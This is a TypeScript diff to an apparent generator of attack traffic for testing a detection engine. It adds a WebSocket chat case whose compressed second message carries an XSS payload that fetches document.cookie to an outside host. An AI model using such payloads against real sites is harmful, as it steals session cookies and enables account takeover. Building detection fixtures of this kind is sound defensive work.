@@ -7,6 +7,7 @@
  * SQL injection over cleartext HTTP/2.
  * `type` is the engine's attack_type for each family.
  */
+import { constants, deflateRawSync } from 'node:zlib';
 import { httpRequest } from './content.js';
 
 /** How a request travels: whole, split in tiny TCP segments, or in IP fragments. */
@@ -20,8 +21,10 @@ export interface WebAttack {
   readonly request: string;
   readonly status: number;
   readonly delivery: Delivery;
-  /** The server's answer when it is not an HTTP/1.1 response with `status` (an HTTP/2 one). */
+  /** The server's answer when it is not an HTTP/1.1 response with `status` (an HTTP/2 one, a 101). */
   readonly response?: string;
+  /** What the client sends once answered (a WebSocket's frames), and the server's reply to it. */
+  readonly then?: { readonly client: string; readonly server: string };
 }
 
 const HOST = 'intranet.corp.example';
@@ -78,6 +81,46 @@ function h2Response(status: number, body: string): string {
   return `${h2Frame(4, 0, 0, '')}${h2Frame(4, 0x1, 0, '')}${h2Frame(1, 0x4, 1, head)}${h2Frame(0, 0x1, 1, body)}`;
 }
 
+/**
+ * A browser's WebSocket message compressed with permessage-deflate (RFC 7692) against `window`,
+ * the client's earlier messages (its kept context), in one masked text frame (RFC 6455 §5.2).
+ */
+function wsCompressedFrame(text: string, window: string, mask: readonly number[]): string {
+  const flushed = deflateRawSync(Buffer.from(text), { finishFlush: constants.Z_SYNC_FLUSH, ...(window !== '' ? { dictionary: Buffer.from(window) } : {}) });
+  const data = flushed.subarray(0, flushed.length - 4);
+  const len = data.length < 126 ? String.fromCharCode(0x80 | data.length) : `\xfe${String.fromCharCode(data.length >> 8, data.length & 0xff)}`;
+  const masked = Buffer.from(data.map((c, i) => c ^ mask[i & 3])).toString('latin1');
+  return `\xc1${len}${String.fromCharCode(...mask)}${masked}`;
+}
+
+/** A chat over WebSocket: a benign message, then script in one compressed against it. */
+function wsChat(): { request: string; response: string; then: { client: string; server: string } } {
+  const first = '{"type":"chat","room":"lobby","text":"hello all"}';
+  const second = '{"type":"chat","room":"lobby","text":"<img src=x onerror=fetch(\'//198.51.100.99/?c=\'+document.cookie)>"}';
+  // A browser's opening handshake, header for header.
+  const request = [
+    'GET /ws/chat HTTP/1.1',
+    `Host: ${HOST}`,
+    'Connection: Upgrade',
+    'Pragma: no-cache',
+    'Cache-Control: no-cache',
+    `User-Agent: ${UA.nuclei}`,
+    'Upgrade: websocket',
+    `Origin: http://${HOST}`,
+    'Sec-WebSocket-Version: 13',
+    'Accept-Encoding: gzip, deflate',
+    'Accept-Language: en-GB,en;q=0.7',
+    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
+    'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits',
+    '',
+    '',
+  ].join('\r\n');
+  const response = 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n';
+  const client = wsCompressedFrame(first, '', [0x1f, 0x8b, 0x3c, 0x52]) + wsCompressedFrame(second, first, [0x6d, 0x02, 0xa9, 0xe4]);
+  // The server's two answers: unmasked, uncompressed "ok" frames.
+  return { request, response, then: { client, server: '\x81\x02ok\x81\x02ok' } };
+}
+
 /** The web attacks, in the order they are sent. The log4shell callback host is a documentation address. */
 export function webAttacks(): readonly WebAttack[] {
   const cb = '198.51.100.99';
@@ -115,5 +158,6 @@ export function webAttacks(): readonly WebAttack[] {
       response: h2Response(500, '<html><body><h1>500</h1></body></html>'),
       delivery: WHOLE,
     },
+    { type: 'xss', variant: 'websocket', description: 'an event handler in a chat message over WebSocket, compressed against the one before it', status: 101, delivery: WHOLE, ...wsChat() },
   ];
 }
